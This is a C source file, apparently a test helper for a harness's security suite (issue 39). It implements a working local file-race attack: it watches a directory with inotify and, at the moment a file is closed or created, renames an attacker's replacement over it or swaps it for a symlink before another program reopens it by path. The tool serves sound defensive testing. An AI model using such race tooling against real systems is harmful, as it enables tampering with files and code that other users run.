/* What another local user does to a harness that writes a file and lets another program
 * reopen it by path (issue 39), run as that user (nobody) by path_attacks.sh:
 *
 *     path_attack swap-on-close DIR SUFFIX REPLACEMENT
 *         at the first file of DIR ending in SUFFIX that the harness closes after
 *         writing (inotify IN_CLOSE_WRITE), renames REPLACEMENT over it (a gnuplot
 *         script, before gnuplot reads it by path)
 *     path_attack link-on-create DIR NAME TARGET
 *         when NAME appears in DIR (IN_CREATE), replaces it with a symlink to TARGET (a
 *         console.log, before QEMU reopens it by path)
 *
 * Not a timing lottery: the watch is in place before the harness starts ("ready"), and
 * the swap happens within microseconds of the event, while the harness still has to fork
 * and exec the program that reopens the path. Against a harness that refuses the folder
 * (it belongs to this user) or hands the program a descriptor, there is nothing to win.
 * Prints "ready", then "swapped NAME"; exits 0 after a swap, 1 on error. */
#include <errno.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <unistd.h>

#define PATH_BUF 1024

static int ends_with(const char *s, const char *suffix)
{
	size_t a = strlen(s), b = strlen(suffix);
	return a >= b && !strcmp(s + a - b, suffix);
}

int main(int argc, char **argv)
{
	char buf[4096] __attribute__((aligned(__alignof__(struct inotify_event))));
	char path[PATH_BUF];
	int in, swap;
	ssize_t n;

	if (argc != 5 || (strcmp(argv[1], "swap-on-close") && strcmp(argv[1], "link-on-create"))) {
		fprintf(stderr, "usage: path_attack swap-on-close DIR SUFFIX REPLACEMENT | "
				"link-on-create DIR NAME TARGET\n");
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	swap = !strcmp(argv[1], "swap-on-close");
	in = inotify_init();
	if (in < 0 || inotify_add_watch(in, argv[2], swap ? IN_CLOSE_WRITE : IN_CREATE) < 0) {
		printf("cannot watch %s: %s\n", argv[2], strerror(errno));
		return 1;
	}
	printf("ready\n");
	while ((n = read(in, buf, sizeof(buf))) > 0) {
		for (char *p = buf; p < buf + n;) {
			struct inotify_event *e = (struct inotify_event *)p;
			p += sizeof(*e) + e->len;
			if (e->mask & IN_IGNORED)
				return 1; /* the folder is gone: nothing left to wait for */
			if (!e->len || (swap ? !ends_with(e->name, argv[3]) : strcmp(e->name, argv[3])))
				continue;
			snprintf(path, sizeof(path), "%s/%s", argv[2], e->name);
			if (swap ? rename(argv[4], path) < 0
				 : (unlink(path) < 0 || symlink(argv[4], path) < 0)) {
				printf("swap of %s failed: %s\n", path, strerror(errno));
				return 1;
			}
			printf("swapped %s\n", e->name);
			return 0;
		}
	}
	return 1;
}
